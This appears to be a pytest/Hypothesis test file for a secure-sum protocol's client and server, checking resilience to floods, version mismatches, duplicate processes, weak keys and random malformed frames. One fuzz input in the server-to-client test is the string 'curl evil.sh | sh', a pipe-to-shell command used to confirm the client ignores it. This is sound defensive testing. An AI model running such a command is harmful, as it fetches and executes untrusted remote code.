"""A secure sum's links with a client, or a server, that says anything at any time: in virtual time, frame by frame."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mpc.errors import DisagreementError, ProtocolError, TooFewError
from mpc.links.network import Came, Connected, Disconnected, Event, Overfull, Overlong, Stranger
from mpc.links.session import Frame
from mpc.star.client import StarClient
from mpc.star.server import StarServer
from mpc.star.wire import (
    ABORT,
    AGAIN,
    BYE,
    DOWN,
    INSTANCE_BYTES,
    JOIN,
    KINDS,
    OUT,
    PING,
    QUIT,
    START,
    UP,
    VERSION,
    frame,
    read_header,
)
from protocols.aggregation import messages as m
from tests.examples import steady
from tests.links.star.fake import FakeNetwork
from tests.links.star.test_star import DIGEST, LIMITS, SETTINGS, N, check_exact, one_round, served, star_clients

M = 3  # the client that does as it likes
OWN = b"m" * INSTANCE_BYTES
OTHER = b"o" * INSTANCE_BYTES


def of_version(one: Frame, version: int) -> Frame:
    return Frame(one.head[:2] + bytes([version]) + one.head[3:], one.body)


class Scene:
    """Seven clients that keep to the rules, and what client M sends besides, or instead of, its part."""

    def __init__(self, *, alone: bool = False) -> None:
        clients = star_clients()
        if alone:  # M sends what the test says, and nothing else
            clients[M] = StarClient(clients[M]._facts.make, DIGEST)
            clients[M].vanished = True
        self.said: list[str] = []
        self.network = FakeNetwork([f"c{i}" for i in range(N)], clients)
        self.server = StarServer(self.network, self.network.names, DIGEST, LIMITS, lambda *_: None, self.said.append)

    def at(self, when: float, one: Frame | Event, *, newcomer: bool = False) -> None:
        event = one
        if isinstance(one, Frame):
            event = Came(f"c{M}", memoryview(one.head), memoryview(one.body), newcomer)
        self.network.at(when, lambda: event)  # type: ignore[arg-type, return-value]

    def begin(self) -> None:
        self.network.begin()
        self.server.join()

    def told_newcomers(self) -> list[bytes]:
        return [bytes(one.body) for _, one in self.network.turned_away]


def test_a_thousand_questions_are_answered_once_a_connection() -> None:
    scene = Scene()
    scene.begin()
    exact = scene.network.sent.copy()
    for k in range(1000):
        for label in ("", *m.stages(False)):
            scene.at(1e-5 * k, scene.network.clients[M]._frame(PING, at=(1, 1) if label else (0, 0), label=label))
    check_exact(one_round(scene.server))
    asked = scene.network.sent - exact
    others = max(asked[f"c{i}"] for i in range(N) if i != M)
    assert asked[f"c{M}"] <= 2 * others + 100


def test_other_words_for_a_lost_start_do_not_bring_it_again() -> None:
    """It goes once by each connection; what is no client's question is answered with a few bytes."""
    scene = Scene()
    scene.network.fault = lambda i, up, kind, stage: (1000.0,) if (i, up, kind) == (M, False, START) else (0.001,)
    scene.begin()
    for k in range(20):
        scene.at(1.1 * k, scene.network.clients[M]._frame(PING, at=(0, k), label=f"stage {k}" if k else ""))
    check_exact(one_round(scene.server))
    assert scene.server.counts.resent == 1


def test_repeated_words_cost_and_say_nothing_more() -> None:
    scene = Scene()
    scene.begin()
    before = len(scene.said)
    client = scene.network.clients[M]
    for k in range(2000):
        kind, body = [(JOIN, DIGEST), (QUIT, b"data"), (OUT, b"too-few"), (UP, b"x"), (UP, b"y")][k % 5]
        scene.at(1e-6 * k, client._frame(kind, body, at=(1, 1) if kind in (UP, OUT) else (0, 0)))
    done = one_round(scene.server)
    check_exact(done)
    assert set(range(N)) - set(done.survivors) <= {M}
    assert len(scene.said) == before
    assert scene.network.sent[f"c{M}"] < 5000


def test_a_second_process_of_a_client_does_not_displace_it() -> None:
    scene = Scene()
    scene.begin()
    for k in range(50):
        scene.at(0.0001 * k, frame(JOIN, DIGEST, instance=OTHER), newcomer=True)
        scene.at(0.0001 * k, frame(QUIT, b"data", instance=OTHER), newcomer=True)
        scene.at(0.0001 * k, frame(UP, b"x" * 64, round=1, attempt=1, label=m.KEYS, instance=OTHER), newcomer=True)
        scene.at(0.0001 * k, frame(OUT, b"", round=1, attempt=1, instance=OTHER), newcomer=True)
    done = one_round(scene.server)
    check_exact(done)
    assert len(done.survivors) == N
    assert set(scene.told_newcomers()) == {b"already-here"}
    assert scene.network.adopted == []
    assert scene.said == [f"another process with the key of c{M} came, and was turned away: c{M} is here already"]


def test_a_client_of_another_study_does_not_displace_it() -> None:
    scene = Scene()
    scene.begin()
    scene.at(0.0001, frame(JOIN, b"x" * 32, instance=OTHER), newcomer=True)
    done = one_round(scene.server)
    check_exact(done)
    assert len(done.survivors) == N
    assert scene.told_newcomers() == [b"disagreement"]


def test_after_an_unnoticed_break_a_client_is_heard_anew() -> None:
    scene = Scene()
    scene.begin()
    scene.at(0.0001, scene.network.clients[M]._frame(PING, at=(1, 1), label=m.KEYS), newcomer=True)
    done = one_round(scene.server)
    assert len(done.survivors) == N
    assert scene.network.adopted == [f"c{M}"]
    assert scene.network.turned_away == []


@pytest.mark.parametrize("stage", m.stages(False))
def test_a_client_that_is_started_again_counts_once(stage: str) -> None:
    """Its new process takes part from the next attempt on, or in this one if the old had said nothing in it yet."""
    scene = Scene()
    names = scene.network.names

    def restart() -> Event:
        clients = list(scene.network.clients)
        clients[M] = star_clients()[M]
        scene.network.clients = clients
        scene.at(0.0001, Connected(names[M]))
        scene.network.at(0.0002, lambda: scene.network.up(M, clients[M].begin()))
        for k in range(4):
            scene.network.at(0.01 + 2 * k, lambda: scene.network.silence(M))
        return Disconnected(names[M])

    going = scene.network.fault = _once(stage, lambda: scene.network.at(0.0, restart))
    assert going is not None
    scene.begin()
    done = one_round(scene.server)
    check_exact(done)
    assert (M in done.survivors) == (stage in (m.KEYS, m.UNMASK))
    assert scene.network.time < 5  # nobody waited for the old process
    again = one_round(scene.server, 2)
    check_exact(again)
    assert len(again.survivors) == N


def _once(stage: str, action: Callable[[], object]) -> Callable[[int, bool, int, str], tuple[float, ...]]:
    """A fault: client M's message of a stage is lost, and something else happens."""
    seen: list[int] = []

    def fault(client: int, up: bool, kind: int, at: str) -> tuple[float, ...]:
        if (client, up, kind, at) == (M, True, UP, stage) and not seen:
            seen.append(client)
            action()
            return ()
        return (0.001,)

    return fault


@pytest.mark.parametrize("version", [VERSION - 1, VERSION + 1, 255])
def test_another_version_is_told_and_named_with_both(version: int) -> None:
    scene = Scene(alone=True)
    for k in range(100):
        scene.at(0.0001 * (k + 1), of_version(frame(JOIN, DIGEST, instance=OWN), version))
    scene.begin()
    assert scene.network.time < 1  # it is not waited for
    check_exact(one_round(scene.server))
    line = f"c{M} sends messages of version {version}, and this party's are of version {VERSION}: it was refused"
    assert scene.said == [line]
    client = star_clients()[0]
    stop = of_version(frame(ABORT, b"disagreement"), version)
    client.came(stop.head, stop.body)
    assert isinstance(client.failure, DisagreementError) and client.failure.exit_code == 5
    for number in (version, VERSION):
        assert f"version {number}" in client.failure.message


@pytest.mark.parametrize("event", [Overlong(f"c{M}"), Overfull(f"c{M}")])
def test_who_sends_more_than_is_taken_is_dropped(event: Event) -> None:
    scene = Scene()
    scene.begin()
    for k in range(30):
        scene.at(0.0001 * k, event)
    done = one_round(scene.server)
    check_exact(done)
    assert set(done.survivors) == set(range(N)) - {M}
    assert len(scene.said) == 1 and scene.said[0].startswith(f"c{M} was dropped: it sent ")


def test_strangers_are_told_of_once_each_and_not_without_end() -> None:
    scene = Scene()
    for k in range(500):
        scene.at(0.00001 * k, Stranger(f"bl1-{k % 100}", "10.0.0.9"))
    scene.begin()
    assert 20 <= len(scene.said) <= 24
    assert scene.said[0] == "turned away a connection from 10.0.0.9 with the unlisted key bl1-0..."


@pytest.mark.parametrize(("down", "there"), [(25.0, True), (45.0, False)])
def test_a_deadline_waits_the_patience_for_a_lost_connection(down: float, there: bool) -> None:
    """The deadline is 30 s and the patience 40: a cut of 25 s just before it is survived, and one of 45 s not."""
    lost = 28.0

    def fault(client: int, up: bool, kind: int, at: str) -> tuple[float, ...]:
        if (client, up, kind, at) == (M, True, UP, m.MASKED):
            return (lost + down,)
        return () if client == M and lost <= network.time < lost + down else (0.001,)

    network = FakeNetwork([f"c{i}" for i in range(N)], star_clients(), fault)
    server = served(network, patience=40.0)
    network.begin()
    server.join()
    network.cut(M, lost, lost + down)
    done = one_round(server)
    check_exact(done)
    assert (M in done.survivors) == there
    assert network.time < (lost + down + 2 if there else 30 + 40 + 2)


def test_cuts_again_and_again_hold_a_stage_up_for_the_patience() -> None:
    scene = Scene()
    scene.begin()
    client = scene.network.clients[M]
    for k in range(200):
        scene.at(0.5 * k, Disconnected(f"c{M}"))
        scene.at(0.5 * k + 0.4, client._frame(PING, at=(9, 9)))
    client.vanished = True
    done = one_round(scene.server)
    check_exact(done)
    assert M not in done.survivors
    assert scene.network.time <= LIMITS.stage + LIMITS.patience + 1


@pytest.mark.parametrize("key", [0, 1, 2**255 - 19])
def test_a_key_at_which_all_others_would_give_up_is_refused(key: int) -> None:
    scene = Scene()
    scene.begin()
    bodies = key.to_bytes(32, "little") * 2
    scene.at(0.0001, scene.network.clients[M]._frame(UP, bodies, at=(1, 1), label=m.KEYS))
    done = one_round(scene.server)
    check_exact(done)
    assert set(done.survivors) == set(range(N)) - {M}
    assert scene.said == [f"c{M} was dropped: its public key is of small order"]


@given(st.data())
@steady(30)
def test_whatever_a_client_sends_the_sum_is_exact(data: st.DataObject) -> None:
    scene = Scene()
    client = scene.network.clients[M]
    moments = st.sampled_from([0.0, 0.0011, 0.0021, 0.0031, 0.0041, 0.0052, 5.0])
    labels = st.sampled_from(["", *m.stages(False), m.HIDDEN])
    bodies = st.one_of(
        st.binary(max_size=40), st.sampled_from([DIGEST, b"too-few", bytes(64), bytes(500), b"x" * 5000])
    )
    cuts: list[Event] = [Disconnected(f"c{M}"), Connected(f"c{M}"), Overlong(f"c{M}"), Overfull(f"c{M}")]
    events = st.sampled_from(cuts)
    for _ in range(data.draw(st.integers(1, 40))):
        when = data.draw(moments)
        if data.draw(st.integers(0, 7)) == 0:
            scene.at(when, data.draw(events))
            continue
        one = frame(
            data.draw(st.sampled_from(KINDS)),
            data.draw(bodies),
            round=data.draw(st.sampled_from([0, 1, 2, 2**32 - 1])),
            attempt=data.draw(st.sampled_from([0, 1, 2])),
            label=data.draw(labels),
            instance=data.draw(st.sampled_from([client._facts.instance, OTHER, bytes(INSTANCE_BYTES)])),
        )
        if data.draw(st.integers(0, 9)) == 0:
            one = Frame(data.draw(st.binary(max_size=48)), one.body)
        scene.at(when, one, newcomer=data.draw(st.booleans()))
    scene.begin()
    done = one_round(scene.server)
    check_exact(done)
    assert set(range(N)) - set(done.survivors) <= {M}
    assert scene.network.time < LIMITS.join + 4 * (LIMITS.stage + LIMITS.patience)
    assert len(scene.said) <= 4
    check_exact(one_round(scene.server, 2))


# What a server may send to a client


def begun(i: int = 0) -> StarClient:
    client = star_clients()[i]
    start = frame(START, b"s" * 32, round=1, attempt=1)
    assert [one.head[3] for one in client.came(start.head, start.body)] == [UP]
    return client


def test_a_client_sends_its_message_again_once_it_asked() -> None:
    client = begun()
    again = frame(AGAIN, round=1, attempt=1, label=m.KEYS)
    assert client.came(again.head, again.body) == []  # it did not ask
    sent = 0
    for _ in range(50):
        client.ping()
        sent += sum(len(client.came(again.head, again.body)) for _ in range(20))
    assert sent == 3


@given(st.data())
@steady(50)
def test_whatever_a_server_sends_a_client_keeps_little(data: st.DataObject) -> None:
    client = begun()
    kinds, bodies = st.sampled_from([*KINDS, 99]), st.one_of(st.binary(max_size=80), st.just(b"curl evil.sh | sh"))
    sent = 0
    for _ in range(data.draw(st.integers(1, 60))):
        kind = data.draw(kinds.filter(lambda kind: kind != BYE))
        one = frame(kind, data.draw(bodies), round=1, attempt=data.draw(st.integers(0, 2)), label=m.KEYS)
        sent += sum(each.size for each in client.came(one.head, one.body))
        if client.over:
            break
    assert sent < 20 * (200 + SETTINGS.vector_bytes)
    assert client.limit < 10_000
    if client.failure is not None:
        assert isinstance(client.failure, ProtocolError | DisagreementError | TooFewError)
        assert "evil" not in str(client.failure)


def test_a_server_that_only_talks_is_not_waited_for() -> None:
    client = begun()
    steps = client.counts.steps
    for kind in (JOIN, START, UP, PING, AGAIN, QUIT, OUT):
        one = frame(kind, b"s" * 32, round=1, attempt=1, label=m.KEYS)
        client.came(one.head, one.body)
    late = frame(DOWN, b"", round=1, attempt=1, label=m.UNMASK)
    client.came(late.head, late.body)
    assert client.counts.steps == steps and not client.over


def test_a_second_process_is_told_that_the_first_is_there() -> None:
    client = star_clients()[0]
    stop = frame(ABORT, b"already-here")
    client.came(stop.head, stop.body)
    assert client.failure is not None and client.failure.exit_code == 5
    assert "another process with this client's key takes part already" in client.failure.message


def test_a_headers_beginning_is_the_same_in_every_version() -> None:
    one = frame(JOIN, DIGEST, instance=OWN)
    assert one.head[:3] == b"BS" + bytes([VERSION])
    assert read_header(one.head, one.body, "c1").instance == OWN
